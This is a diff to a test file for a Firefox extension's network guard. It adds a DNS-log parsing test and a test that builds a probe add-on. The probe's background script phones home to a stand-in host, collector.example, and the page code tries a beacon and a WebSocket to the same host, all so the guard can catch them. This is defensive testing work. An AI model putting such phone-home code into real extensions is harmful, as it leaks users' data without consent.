@@ -2,13 +2,15 @@
 // WebDriver BiDi): it installs as a temporary add-on, its content script runs
 // detection on a fixture site served at the site's real URL, it leaves pages
 // the manifest does not match alone, and nothing leaves the machine.
-import { readFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
 import { connect } from 'node:net';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { FIXTURES } from '../fixtures/sites';
 import {
   FIREFOX_DIST,
+  hostsInResolverLog,
   launchFirefoxExtension,
   nudgesOn,
   startNetworkTrap,
@@ -160,8 +162,34 @@ describe('the Firefox network guard', () => {
     }
   });
 
-  it('fails a page request that would leave the machine and reports it when Firefox closes', async () => {
-    const session = await launchFirefoxExtension([{ url: UNMATCHED_URL, html: '<!doctype html><title>guard</title><p>guard</p>' }]);
+  it('reads remote DNS lookups from the resolver log and ignores local ones', () => {
+    const log = [
+      '[Parent 1: Main Thread]: D/nsHostResolver nsHostResolver::Init this=7f00',
+      '[Parent 1: Main Thread]: D/nsHostResolver Resolving host [firefox.settings.services.mozilla.com]<> type 65. [this=7f00]',
+      '[Parent 1: Socket Thread]: D/nsHostResolver Resolving host [127.0.0.1]<> type 0. [this=7f00]',
+      '[Parent 1: Socket Thread]: D/nsHostResolver Resolving host [localhost]<> type 0. [this=7f00]',
+      '[Parent 1: Main Thread]: D/nsHostResolver Resolving host [Collector.Example]<> type 0. [this=7f00]',
+    ].join('\n');
+    expect(hostsInResolverLog(log)).toEqual(['collector.example', 'firefox.settings.services.mozilla.com']);
+  });
+
+  it('fails page requests and records background ones that would leave the machine, and reports them when Firefox closes', async () => {
+    // A probe add-on whose background script phones home: WebDriver BiDi does
+    // not see extension background requests, so this is the proxy trap's catch.
+    const probe = mkdtempSync(join(tmpdir(), 'second-look-probe-'));
+    writeFileSync(
+      join(probe, 'manifest.json'),
+      JSON.stringify({
+        manifest_version: 3,
+        name: 'network guard probe',
+        version: '1.0',
+        background: { scripts: ['background.js'] },
+        host_permissions: ['https://collector.example/*'],
+        browser_specific_settings: { gecko: { id: 'guard-probe@second-look.test' } },
+      }),
+    );
+    writeFileSync(join(probe, 'background.js'), 'fetch("https://collector.example/from-background", { method: "POST", body: "x" }).catch(() => {});');
+    const session = await launchFirefoxExtension([{ url: UNMATCHED_URL, html: '<!doctype html><title>guard</title><p>guard</p>' }], { dist: probe });
     let closed = false;
     try {
       const tab = await session.open(UNMATCHED_URL);
@@ -169,10 +197,28 @@ describe('the Firefox network guard', () => {
         '() => fetch("https://collector.example/beacon", { method: "POST", body: "x" }).then(() => "sent", (e) => e.name)',
       );
       expect(outcome).toBe('TypeError');
+      const socket = await tab.evaluate<string>(
+        `() => new Promise((resolve) => {
+          const ws = new WebSocket("wss://socket.collector.example/live");
+          ws.onopen = () => resolve("open");
+          ws.onerror = () => resolve("error");
+        })`,
+      );
+      expect(socket).toBe('error');
+      // The background request goes out on its own schedule: wait until the trap has it.
+      const deadline = Date.now() + 10_000;
+      while (!session.trapAttempts().length && Date.now() < deadline) await wait(100);
       closed = true;
-      await expect(session.close()).rejects.toThrow(/collector\.example\/beacon/);
+      const failure = await session.close().then(
+        () => null,
+        (error: unknown) => String(error),
+      );
+      expect(failure).toMatch(/collector\.example\/beacon/);
+      expect(failure).toMatch(/socket\.collector\.example\/live/);
+      expect(failure).toMatch(/collector\.example:443 \(from browser via proxy trap\)/);
     } finally {
       if (!closed) await session.close({ allowLeaks: true });
+      rmSync(probe, { recursive: true, force: true });
     }
   });
 });
